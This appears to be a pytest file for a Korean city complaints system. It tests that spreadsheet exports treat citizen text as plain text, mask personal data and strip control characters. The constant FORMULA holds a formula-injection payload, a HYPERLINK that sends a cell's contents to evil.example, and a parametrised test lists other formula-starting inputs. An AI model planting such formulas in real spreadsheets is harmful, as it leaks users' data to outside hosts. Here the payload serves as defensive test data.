"""Exports open in a spreadsheet on a city PC: a citizen's text is never a formula there, and no
character a citizen can type makes an export fail."""

import csv
import io
import types

import pytest
from openpyxl import load_workbook

from ontong.complaints.models import Complaint
from ontong.tabular import to_csv, to_xlsx

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?d="&B2,"사진 보기")'


def export(client, staff, kind: str):
    client.force_login(staff["admin"])
    response = client.get("/complaints/", {"export": kind})
    assert response.status_code == 200
    return response.content


def title_cells(content: bytes):
    sheet = load_workbook(io.BytesIO(content)).active
    column = [c.value for c in sheet[1]].index("제목") + 1
    return [sheet.cell(row, column) for row in range(2, sheet.max_row + 1)]


def test_a_citizen_formula_is_plain_text_in_the_xlsx_export(client, staff, new_complaint):
    new_complaint("사진 보기", title=FORMULA)
    [cell] = title_cells(export(client, staff, "xlsx"))
    assert cell.data_type == "s" and cell.value == FORMULA


def test_a_citizen_formula_is_quoted_in_the_csv_export(client, staff, new_complaint):
    new_complaint("사진 보기", title=FORMULA)
    rows = list(csv.reader(io.StringIO(export(client, staff, "csv").decode("utf-8-sig"))))
    column = rows[0].index("제목")
    assert rows[1][column] == "'" + FORMULA


def test_export_titles_mask_phone_numbers_and_names_in_every_chunk(
    client, staff, new_complaint, monkeypatch
):
    from ontong.web import filters

    monkeypatch.setattr(filters, "EXPORT_CHUNK", 2)
    for n in range(3):
        new_complaint("가로등", title=f"김철수씨 가게 앞 가로등 {n}번 010-1234-5678")
    cells = title_cells(export(client, staff, "xlsx"))
    assert sorted(c.value for c in cells) == [
        f"김*수씨 가게 앞 가로등 {n}번 010-****-5678" for n in range(3)
    ]


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1+A1", "@SUM(A1)", "\t=1", "\r=1"])
def test_every_formula_start_is_neutralised(value):
    [_, row] = list(csv.reader(io.StringIO(to_csv(["a"], [[value]]).decode("utf-8-sig"))))
    assert row[0].startswith("'")
    cell = load_workbook(io.BytesIO(to_xlsx(["a"], [[value]], title="t"))).active.cell(2, 1)
    assert cell.data_type == "s"


def test_numbers_stay_numbers():
    sheet = load_workbook(io.BytesIO(to_xlsx(["n"], [[-3]], title="t"))).active
    assert sheet.cell(2, 1).value == -3
    assert to_csv(["n"], [[-3]]).decode("utf-8-sig").splitlines()[1] == "-3"


def test_control_characters_are_removed_at_intake(new_complaint):
    complaint = new_complaint("본문\x07입니다\n둘째 줄\t끝\x1b[0m", title="가로등\x1b[31m 고장\x07")
    assert complaint.title == "가로등[31m 고장"
    assert complaint.body == "본문입니다\n둘째 줄\t끝[0m"
    assert complaint.messages.get(direction="in").body == complaint.body


def test_an_old_row_with_control_characters_still_exports(client, staff, new_complaint):
    complaint = new_complaint("가로등")
    Complaint.objects.filter(pk=complaint.pk).update(title="가로등\x1b 고장\x07")
    [cell] = title_cells(export(client, staff, "xlsx"))
    assert cell.value == "가로등 고장"


def test_the_sns_dashboard_workbook_writes_titles_as_text():
    from ontong.publishing import analytics

    post = types.SimpleNamespace(title=FORMULA + "\x07")
    target = types.SimpleNamespace(post=post, label="서산시", published_at=None)
    stats = types.SimpleNamespace(
        target=target, views=1, reach=1, reactions=0, comments=0, shares=0, engagement=1
    )
    data = {"followers": [], "posts": [stats]}
    book = load_workbook(io.BytesIO(analytics.workbook(data)))
    cell = book["게시물"].cell(2, 1)
    assert cell.data_type == "s" and cell.value == FORMULA


def test_control_characters_are_removed_from_a_citizen_follow_up(new_complaint):
    from ontong.channels.web.views import add_follow_up

    complaint = new_complaint("가로등")
    add_follow_up(complaint, "추가\x1b 내용\x07", None)
    assert complaint.messages.latest("pk").body == "추가 내용"


def test_a_csv_export_reads_back_as_written():
    from ontong.tabular import read_grid

    rows = [["-도로 보수", "=1", "'인용", "보통"]]
    assert read_grid(to_csv(["a", "b", "c", "d"], rows))[1] == rows[0]
